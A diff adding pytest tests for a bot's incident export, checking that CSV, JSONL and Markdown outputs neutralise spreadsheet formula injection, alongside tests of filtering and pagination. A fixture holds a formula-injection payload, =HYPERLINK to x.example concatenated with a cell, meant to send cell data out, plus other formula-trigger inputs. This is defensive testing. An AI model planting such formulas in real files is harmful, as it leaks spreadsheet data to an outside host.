@@ -1,0 +1,177 @@
+"""Files of incidents: nothing that was pasted runs in a spreadsheet or formats a report."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from dataclasses import replace
+
+import pytest
+
+from bot.cards.export import COLUMNS, neutral
+from bot.errors import UsageError
+from bot.exports import Form, Selection, write_incidents
+from bot.period import Period
+from bot.store import Store, incidents
+from bot.store.sight import Sight
+from tests.test_store_incidents import FINDING, NOON, opened, opening
+
+HOSTILE = '=HYPERLINK("http://x.example/"&A1),\n|`*bold*` <b>x</b>'
+
+
+@pytest.fixture
+def store(tmp_path):
+    store = Store.open(str(tmp_path / "a.db"))
+    yield store
+    store.close_now()
+
+
+def written(store, form, selection=Selection()) -> str:  # noqa: B008 - frozen
+    out = io.StringIO(newline="")
+    written.count = write_incidents(store, selection, form, out)
+    return out.getvalue()
+
+
+# https://owasp.org/www-community/attacks/CSV_Injection
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+        ("\tx", "'\tx"),
+        ("  =1", "'  =1"),
+        ('"=1', "'\"=1"),
+        ("' =1", "'' =1"),
+        ("＝1", "'＝1"),
+        ("a;=1", "a;'=1"),
+        ('a," =1', "a,'\" =1"),
+        ("a\n=1", "a\n'=1"),
+        ("550-5.7.1 x", "550-5.7.1 x"),
+        ("a = b", "a = b"),
+        ("ana@example.com", "ana@example.com"),
+        ("", ""),
+    ],
+)
+def test_a_cell_is_never_a_formula(cell, shown):
+    assert neutral(cell) == shown
+
+
+def test_hostile_cells_take_no_square():
+    assert len(neutral("\n" * 200_000)) == 200_001
+
+
+def test_csv_is_one_quoted_row_an_incident(store):
+    store.write_now(opening(findings=(replace(FINDING, reply_text=HOSTILE),)))
+    opened(store, recipient="-ben@example.com")
+    store.write_now(lambda db: incidents.resolve(db, 2, version=None, actor="U1", helped="wait", at=NOON))
+    text = written(store, Form.CSV)
+    assert written.count == 2
+    head, first, second = csv.reader(io.StringIO(text, newline=""))
+    assert head == list(COLUMNS)
+    assert first == [
+        *("1", "2026-11-24T12:00:00+00:00", "new", "", "C1", "U1", "", "", "1", "mailbox-unknown"),
+        *("550-user-unknown", "domain-typo", "postfix", "550", "5.1.1"),
+        '\'=HYPERLINK("http://x.example/"&A1),\n|`*bold*` <b>x</b>',
+        *("ana@example.com", "", ""),
+    ]
+    assert (second[2], second[3], second[16], second[17]) == (
+        "resolved",
+        "2026-11-24T12:00:00+00:00",
+        "'-ben@example.com",
+        "wait",
+    )
+    assert all(line.startswith('"') for line in text.split("\r\n")[:1])
+
+
+def test_json_lines_hold_everything(store):
+    opened(store)
+    [line] = written(store, Form.JSONL).splitlines()
+    assert json.loads(line)["findings"][0]["reply_text"] == FINDING.reply_text
+
+
+def test_a_report_counts_first_and_formats_nothing_of_a_paste(store):
+    store.write_now(opening(findings=(replace(FINDING, reply_text=HOSTILE, entry=None),)))
+    text = written(store, Form.MARKDOWN, Selection(Period(NOON.date(), NOON.date())))
+    assert text.splitlines() == [
+        "# Incidents, 2026-11-24 to 2026-11-24",
+        "",
+        "1 incident: 0 resolved, 1 open. Times are UTC.",
+        "",
+        "## Families",
+        "",
+        "| families | incidents |",
+        "| --- | ---: |",
+        "| Unknown recipient | 1 |",
+        "",
+        "## Providers",
+        "",
+        "| providers | incidents |",
+        "| --- | ---: |",
+        "| Postfix | 1 |",
+        "",
+        "## Errors",
+        "",
+        "| errors | incidents |",
+        "| --- | ---: |",
+        "| words that no entry knows | 1 |",
+        "",
+        "## All of them",
+        "",
+        r"| number | opened | state | owner | error | code | recipient | the server's words |",
+        "| ---: | --- | --- | --- | --- | --- | --- | --- |",
+        r"| 1 | 2026\-11\-24 12:00 | new | nobody | words that no entry knows | 550 5\.1\.1 | ana@example\.com |"
+        r" =HYPERLINK\(\"http://x\.example/\"\&A1\), \|\`\*bold\*\` \<b\>x\</b\> |".replace('\\"', '"'),
+    ]
+
+
+def test_a_range_and_a_sight_leave_out_the_rest(store):
+    for day, channel in ((1, "C1"), (2, "C1"), (2, "C2"), (3, "C1")):
+        opened(store, channel=channel, recipient=f"{day}{channel}@example.com", at=NOON.replace(day=day))
+    period = Period(NOON.date().replace(day=2), NOON.date().replace(day=3))
+    everything = written(store, Form.JSONL, Selection(period))
+    mine = written(store, Form.JSONL, Selection(period, Sight("T1", "U9", frozenset({"C1"}))))
+    assert [json.loads(line)["id"] for line in everything.splitlines()] == [2, 3, 4]
+    assert [json.loads(line)["id"] for line in mine.splitlines()] == [2, 4]
+
+
+def test_pages_neither_lose_nor_repeat_what_was_opened_at_the_same_moment(store):
+    for number in range(1203):
+        opened(store, recipient=f"c{number}@example.com", at=NOON)
+    everything = written(store, Form.JSONL)
+    assert [json.loads(line)["id"] for line in everything.splitlines()] == list(range(1, 1204))
+
+
+def test_a_person_s_export_walks_the_index_of_opening(store):
+    sight = Sight("T1", "U1", frozenset({"C1", "C2"}))
+    seen, values = sight.where()
+    plan = store.read_now(
+        lambda db: [
+            row["detail"]
+            for row in db.execute(
+                f"explain query plan select * from incidents indexed by incidents_opened where {seen}"
+                " and opened_at >= 1 and opened_at < 9 and (opened_at, id) > (2, 3) order by opened_at, id limit 9",
+                values,
+            )
+        ]
+    )
+    assert plan == ["SEARCH incidents USING INDEX incidents_opened (team=? AND opened_at>? AND opened_at<?)"]
+
+
+def test_an_order_is_days_and_a_form_in_any_order():
+    from bot.desk.exporting import parse_order
+
+    today = NOON.date()
+    thirty = Period(today.replace(month=10, day=26), today)
+    assert parse_order("", today) == (thirty, Form.CSV)
+    assert parse_order("markdown 30d", today) == (thirty, Form.MARKDOWN)
+    assert parse_order("2026-11-01..2026-11-02 JSONL", today) == (
+        Period(today.replace(day=1), today.replace(day=2)),
+        Form.JSONL,
+    )
+    with pytest.raises(UsageError, match="I do not know the word 'xlsx'"):
+        parse_order("7d xlsx", today)
